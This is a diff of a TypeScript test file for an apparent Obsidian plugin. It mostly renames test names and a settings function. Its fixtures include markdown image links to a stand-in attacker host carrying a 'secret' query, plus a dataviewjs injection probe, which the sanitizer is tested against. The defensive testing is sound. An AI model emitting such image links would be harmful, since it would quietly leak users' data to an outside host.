@@ -6,11 +6,11 @@ import { describe, expect, it } from "vitest";
 import manifest from "../manifest.json";
 import { findPassage, noteOf } from "../src/citations";
 import { finishedEnd, harmless } from "../src/markdown";
-import { moved, readSettings } from "../src/settings";
+import { movedSessions, readSettings } from "../src/settings";
 
 const seen = (text: string): string => text.replaceAll("\u200b", "");
 
-describe("an answer from who knows where", () => {
+describe("an untrusted answer", () => {
   it.each([
     "![x](https://evil.example/?q=secret)",
     "![x][ref]\n\n[ref]: https://evil.example/p.png",
@@ -32,7 +32,7 @@ describe("an answer from who knows where", () => {
     expect(outside).not.toMatch(/`\s*\$?=/);
   });
 
-  it("is shown whole", () => {
+  it("is shown completely", () => {
     expect(seen(harmless("a < b, **b** [1] `x<y>` ![p](q)\n"))).toBe("a < b, **b** [1] `x<y>` ![p](q)\n");
   });
 
@@ -46,13 +46,13 @@ describe("an answer from who knows where", () => {
     (line) => expect(harmless(`${line}\nevil()`)).not.toContain("dataviewjs"),
   );
 
-  it("keeps the language of code that is only shown, and what stands in it", () => {
+  it("keeps the code, and the language if no plugin runs it", () => {
     expect(harmless("~~~python\nprint('```', '<b>')\n~~~")).toBe("\n````python\nprint('```', '<b>')\n````");
     expect(harmless("```js\nno end <b>")).toBe("\n```js\nno end <b>\n```");
   });
 });
 
-/** By the plainest rule there is: only what the renderer itself would take for a fence at the margin is code. */
+/** Returns the visible text. Only an unindented fence counts as code, as in the renderer. */
 function withoutCode(text: string): string {
   const out: string[] = [];
   let mark: string | undefined;
@@ -80,7 +80,7 @@ describe("a block", () => {
     expect(text.slice(0, finishedEnd(text, 0))).toBe(finished);
   });
 
-  it("is found wherever the text is cut", () => {
+  it("is found in text cut anywhere", () => {
     const text = "# A\n\nOne.\n\n- x\n\n- y\n\n```\ncode\n\nmore\n```\n\n| a |\n| - |\n\nEnd.";
     let end = 0;
     for (let length = 0; length <= text.length; length++) {
@@ -96,13 +96,13 @@ describe("a citation", () => {
   const cited = (more: Partial<CitationEvent>): CitationEvent =>
     ({ type: "citation", index: 1, document_id: "d", ...more }) as CitationEvent;
 
-  it("names a note by what Obsidian opens, and nothing else", () => {
+  it("names a note only with an Obsidian address", () => {
     expect(noteOf(cited({ url: "obsidian://open?vault=My%20Vault&file=A%2FB%20%26%20C.md" }))).toBe("A/B & C.md");
     expect(noteOf(cited({ url: "https://example.com/?file=A.md" }))).toBe(undefined);
     expect(noteOf(cited({}))).toBe(undefined);
   });
 
-  it("finds its words nearest to where they were, then its heading", () => {
+  it("finds its quote nearest to the old offset, then its heading", () => {
     const text = "# Top\n\nSame words.\n\n## Deep (1)\n\nSame   words. Other.\n";
     const at = (more: Partial<CitationEvent>): string | undefined => {
       const range = findPassage(text, cited(more));
@@ -116,7 +116,7 @@ describe("a citation", () => {
 });
 
 describe("settings", () => {
-  it("are read from whatever is there", () => {
+  it("are read from any data", () => {
     expect(readSettings(null).url).toBe("http://127.0.0.1:8420");
     expect(readSettings({ url: 7, scope: "moon", sessions: { a: 1, "b.md": "s" } })).toMatchObject({
       url: "http://127.0.0.1:8420",
@@ -125,10 +125,10 @@ describe("settings", () => {
     });
   });
 
-  it("follow a note or a folder that is moved", () => {
+  it("follow a moved note or folder", () => {
     const sessions = { "": "v", "A.md": "a", "F/B.md": "b", "FF/C.md": "c" };
-    expect(moved(sessions, "F", "G")).toEqual({ "": "v", "A.md": "a", "G/B.md": "b", "FF/C.md": "c" });
-    expect(moved(sessions, "A.md", "Z.md")).toEqual({ "": "v", "Z.md": "a", "F/B.md": "b", "FF/C.md": "c" });
+    expect(movedSessions(sessions, "F", "G")).toEqual({ "": "v", "A.md": "a", "G/B.md": "b", "FF/C.md": "c" });
+    expect(movedSessions(sessions, "A.md", "Z.md")).toEqual({ "": "v", "Z.md": "a", "F/B.md": "b", "FF/C.md": "c" });
   });
 });
 
